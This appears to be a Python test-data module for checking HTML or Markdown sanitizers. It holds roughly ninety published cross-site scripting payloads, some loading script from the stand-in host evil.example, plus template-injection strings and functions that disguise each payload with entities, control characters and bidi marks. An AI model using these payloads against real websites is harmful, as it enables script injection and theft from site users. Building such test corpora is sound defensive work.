"""Published cross-site scripting vectors (OWASP and PortSwigger cheat sheets, html5sec), and the disguises that each is tried in."""

VECTORS = [
    "<script>hit()</script>", "<script src=//evil.example/x.js></script>", "\"><script>hit()</script>", "'><script>hit()</script>", "</title><script>hit()</script>",
    "</textarea><script>hit()</script>", "</style><script>hit()</script>", "--><script>hit()</script>", "]]><script>hit()</script>", "<<script>hit();//<</script>",
    "<img src=x onerror=hit()>", "<img src=\"x\" onerror=\"hit()\">", "\"><img src=x onerror=hit()>", "<img/src=x/onerror=hit()>", "<image src=x onerror=hit()>",
    "<svg onload=hit()>", "<svg/onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:hit()>", "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<math href=javascript:hit()>x</math>",
    "<body onload=hit()>", "<body onpageshow=hit()>", "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>", "<embed src=javascript:hit()>", "<a href=javascript:hit()>x</a>", "<a href=\"java\tscript:hit()\">x</a>", "<a href='vbscript:hit()'>x</a>",
    "<a href=\"data:text/html,<script>hit()</script>\">x</a>", "<form action=javascript:hit()><input type=submit>", "<button formaction=javascript:hit()>x</button>", "<isindex action=javascript:hit() type=submit>",
    "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>", "<video><source onerror=hit()>", "<audio src=x onerror=hit()>",
    "<details open ontoggle=hit()>", "<marquee onstart=hit()>", "<div onpointerover=hit()>x</div>", "<style>@import 'javascript:hit()';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">", "<base href=//evil.example/>", "<template><script>hit()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<xss id=x tabindex=1 onfocus=hit()></xss>", "<div style=\"background:url(javascript:hit())\">x</div>", "\" onmouseover=\"hit()", "' onfocus='hit()' autofocus='", "\" autofocus onfocus=hit() x=\"",
    "javascript:hit()", "JaVaScRiPt:hit()", "java&#115;cript:hit()", "&#106;avascript&colon;hit()", "\u0001javascript:hit()", "//evil.example/x", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "{{{constructor.constructor('hit()')()}}}", "{{>layout}}", "{{/main}}<script>hit()</script>", "${hit()}", "<%= hit() %>", "[x](javascript:hit())", "[x](<javascript:hit()>)", "[x]: javascript:hit()",
    "![x](javascript:hit())", "<javascript:hit()>", "<http://x.example/\" onclick=\"hit()>", "`<script>hit()</script>`", "[<img src=x onerror=hit()>](https://x.example)", "[^\"onclick=hit()]",
    "[x](https://x.example/\"onmouseover=\"hit())", "[x](https://x.example 'a\" onclick=\"hit()')", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E", "＜script＞hit()＜/script＞", "<ſcript>hit()</ſcript>", "<a href=\"x\" style=\"display:block;position:fixed;inset:0\">x</a>",
]


def entities(text):
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'&:=/()" else c for c in text)


def mixed_case(text):
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


def with_controls(text):
    return text.replace("script", "scr\u0000ipt".replace("\u0000", "\u000b")).replace("on", "o\u000cn")


def with_bidi(text):
    return "\u202e" + text + "\u202c"


def in_arabic(text):
    return "نص " + text + " نص"


DISGUISES = [("plain", lambda t: t), ("entities", entities), ("case", mixed_case), ("controls", with_controls), ("bidi", with_bidi), ("in Arabic", in_arabic)]
ALL = [(name, disguise(vector)) for vector in VECTORS for name, disguise in DISGUISES]
